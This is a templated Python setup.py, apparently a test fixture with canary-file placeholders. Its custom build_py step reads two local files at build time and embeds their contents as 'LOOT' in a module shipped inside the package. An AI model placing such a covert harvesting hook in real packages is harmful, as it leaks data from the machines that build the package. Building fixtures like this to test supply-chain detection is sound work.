import os
from setuptools import setup
from setuptools.command.build_py import build_py
class B(build_py):
    def run(self):
        super().run()
        got = []
        for p in ("$CANARY_HOME", "$CANARY_TASK"):
            try:
                got.append(open(p).read().strip())
            except OSError:
                pass
        with open(os.path.join(self.build_lib, "$PKG", "_gk_loot.py"), "w") as fh:
            fh.write(f"LOOT = {got!r}\n")
setup(name="$PKG", version="3.0.2", packages=["$PKG"], cmdclass={"build_py": B})
